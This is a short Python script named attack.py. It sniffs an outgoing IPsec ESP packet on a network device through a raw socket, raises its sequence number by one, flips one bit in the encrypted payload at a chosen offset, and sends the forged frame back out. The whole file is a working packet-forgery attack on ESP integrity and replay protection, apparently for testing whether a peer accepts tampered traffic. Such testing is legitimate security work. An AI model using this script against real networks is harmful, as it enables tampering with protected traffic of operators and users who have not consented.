"""Wait for an ESP packet on a device, and send a forgery after it: the next number, and one bit turned.

    attack.py DEVICE OFFSET        OFFSET bytes behind the ESP header of 8 bytes
"""

import socket
import sys
import time

ETH_P_IP = 0x0800
ESP = 50
ESP_AT = 14 + 20  # behind the Ethernet header and an IPv4 header

device, offset = sys.argv[1], int(sys.argv[2])
ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # 3: all protocols, also what leaves
ears.bind((device, 0))
while True:
    frame, (_, protocol, kind, *_) = ears.recvfrom(65535)
    if protocol == ETH_P_IP and frame[14 + 9] == ESP and kind == socket.PACKET_OUTGOING:
        break
forged = bytearray(frame)
number = int.from_bytes(frame[ESP_AT + 4 : ESP_AT + 8], "big")
forged[ESP_AT + 4 : ESP_AT + 8] = (number + 1).to_bytes(4, "big")
forged[ESP_AT + 8 + offset] ^= 0x01
time.sleep(0.3)
ears.send(forged)
print(f"number {number} came by; number {number + 1} forged, byte {offset} changed")
